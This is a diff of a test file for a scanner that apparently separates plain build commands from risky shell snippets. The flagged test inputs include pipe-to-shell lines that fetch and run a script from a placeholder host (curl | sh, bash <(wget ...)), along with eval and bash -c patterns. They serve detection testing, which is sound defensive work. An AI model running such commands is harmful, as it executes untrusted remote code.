@@ -11,13 +11,15 @@ beforeAll(async () => {
 const PLAIN = [
   'npm ci\nnpm test',
   'make -j4 build && make check',
-  'sudo pip install -e .',
+  'sudo pip install --user .',
   'cd web; yarn install --frozen-lockfile\nyarn build',
   './gradlew build --no-daemon',
   'FOO=1 cargo test --all # run everything',
   'echo "${{ matrix.os }}"; go test ./...',
   'echo "building $VERSION of" $TARGET # not $THIS',
   "npm publish --tag $TAG 'literal $NOT'",
+  'git checkout $HEAD_REF && git log -1',
+  'python setup.py sdist; ./scripts/build.sh --fast',
 ];
 
 describe('quick scan', () => {
@@ -28,7 +30,9 @@ describe('quick scan', () => {
       'curl -sSL https://x.example/i.sh | sh',
       'eval "$CMD"',
       'bash <(wget -qO- https://x.example)',
-      'git fetch origin pull/1/head',
+      'echo "$X" | bash',
+      'bash -c "$CMD"',
+      'node -e "require(1)"',
       'x=$(cat file)',
       'python -c "print(1)"',
       'cat <<EOF\nhi\nEOF',
